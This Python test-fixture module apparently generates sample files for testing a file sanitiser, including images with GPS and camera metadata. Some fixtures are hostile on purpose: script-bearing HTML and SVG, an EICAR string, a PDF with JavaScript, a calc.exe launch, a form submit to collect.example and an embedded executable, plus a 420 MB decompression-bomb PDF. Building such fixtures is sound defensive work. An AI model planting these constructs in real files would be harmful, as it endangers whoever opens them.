"""Files as phones, offices and attackers send them, made from nothing."""

import functools
import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from PIL import Image, ImageCms, PngImagePlugin

SECRET = "51.5007 Secret Camera 0.1246"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
OPEN_XML = "application/vnd.openxmlformats-officedocument"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
# The parts of the harmless test text that every virus scanner reports, joined only when it runs.
TEST_VIRUS = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"
OLE_START = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
# 64 by 40 pixels, left half blue, to be turned a quarter clockwise; with a camera's name in EXIF.
SIDEWAYS_HEIC = (Path(__file__).parent / "sideways.heic").read_bytes()


def picture(mode: str = "RGB", size: tuple[int, int] = (60, 40)) -> Image.Image:
    """Left half blue, right half red, so that turning shows."""
    image = Image.new("RGB", size, (220, 30, 30))
    image.paste((30, 30, 220), (0, 0, size[0] // 2, size[1]))
    return image.convert(mode)


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    return saved(picture(size=size), "JPEG", **options)


def noisy_jpeg() -> bytes:
    """Large enough that a half of it ends in the middle of the picture."""
    return saved(Image.effect_noise((600, 400), 80), "JPEG")


def camera_jpeg() -> bytes:
    """Lies on its side, says where it was taken and by what, and has a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = SECRET
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (51.0, 30.0, 2.5)
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return jpeg(exif=exif, comment=SECRET, icc_profile=srgb)


def png_with_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SECRET)
    return saved(picture(), "PNG", pnginfo=text)


def see_through_palette_png() -> bytes:
    image = picture("P")
    return saved(image, "PNG", transparency=image.getpixel((0, 0)))


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *, rows: bytes = b"", extra: bytes = b"") -> bytes:
    """A PNG that claims a size; `rows` are its packed pixels, `extra` more chunks."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = png_chunk(b"IHDR", header) + extra + png_chunk(b"IDAT", zlib.compress(rows))
    return b"\x89PNG\r\n\x1a\n" + chunks + png_chunk(b"IEND", b"")


def animated_gif() -> bytes:
    second = Image.new("RGB", (60, 40), "green")
    return saved(picture(), "GIF", save_all=True, append_images=[second], duration=100)


def many_scans_jpeg() -> bytes:
    """A progressive JPEG whose last scan is repeated a few hundred times."""
    data = jpeg(progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 300 + data[-2:]


def pdf(pages: int = 1) -> pikepdf.Pdf:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    return document


def pdf_bytes(document: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def acting_pdf() -> bytes:
    """Everything a PDF can do that paper cannot, and one honest link."""
    document = pdf()
    root = document.Root
    d, n = pikepdf.Dictionary, pikepdf.Name
    js = d(S=n.JavaScript, JS=pikepdf.String("app.alert(1)"))
    root.OpenAction = document.make_indirect(js)
    root.AA = d(WC=js)
    root.AcroForm = d(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))
    root.Names = d(JavaScript=d(Names=pikepdf.Array([pikepdf.String("a"), js])))
    document.attachments["hidden.exe"] = b"MZ hidden bytes"
    actions = [
        d(S=n.Launch, F=pikepdf.String("calc.exe")),
        d(S=n.SubmitForm, F=pikepdf.String("http://collect.example/")),
        d(S=n.ImportData, F=pikepdf.String("data.fdf")),
        d(S=n.GoToR, F=pikepdf.String("other.pdf"), D=pikepdf.Array([0])),
        d(S=n.URI, URI=pikepdf.String("javascript:alert(1)")),
        d(S=n.URI, URI=pikepdf.String("https://jobs.example/advert")),
    ]
    links = [
        d(Type=n.Annot, Subtype=n.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action)
        for action in actions
    ]
    attached = d(Type=n.Annot, Subtype=n.FileAttachment, Rect=pikepdf.Array([0, 0, 9, 9]))
    document.pages[0].obj.Annots = pikepdf.Array([*links, attached])
    return pdf_bytes(document)


def locked_pdf(password: str) -> bytes:
    return pdf_bytes(pdf(), encryption=pikepdf.Encryption(owner="owner", user=password))


@functools.cache
def bomb_pdf() -> bytes:
    """A few hundred bytes whose page unpacks to 420 MB, in two layers."""
    packer = zlib.compressobj(9)
    layer = b"".join(packer.compress(bytes(1_000_000)) for _ in range(420)) + packer.flush()
    document = pdf()
    stream = pikepdf.Stream(document, zlib.compress(layer, 9))
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].obj.Contents = document.make_indirect(stream)
    return pdf_bytes(document, compress_streams=False, stream_decode_level=_AS_IS)


_AS_IS = pikepdf.StreamDecodeLevel.none


def zipped(**parts: bytes) -> bytes:
    """A zip whose part names are the keywords, with __ for / and _dot_ for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return out.getvalue()


def office(main_type: str, **parts: bytes) -> bytes:
    """A document of today's Office format whose main part has this content type."""
    out = io.BytesIO()
    types = f'<Types><Override PartName="/main.xml" ContentType="{main_type}"/></Types>'
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("main.xml", "<document/>")
        for name, data in parts.items():
            archive.writestr(f"{name}.bin", data)
    return out.getvalue()


def docx(**parts: bytes) -> bytes:
    return office(f"{OPEN_XML}.wordprocessingml.document.main+xml", **parts)


def old_office(*streams: str) -> bytes:
    return OLE_START + b"".join(name.encode("utf-16-le") + bytes(64) for name in streams)


def box(brand: bytes) -> bytes:
    return struct.pack(">I", 20) + b"ftyp" + brand + bytes(4) + brand + bytes(64)
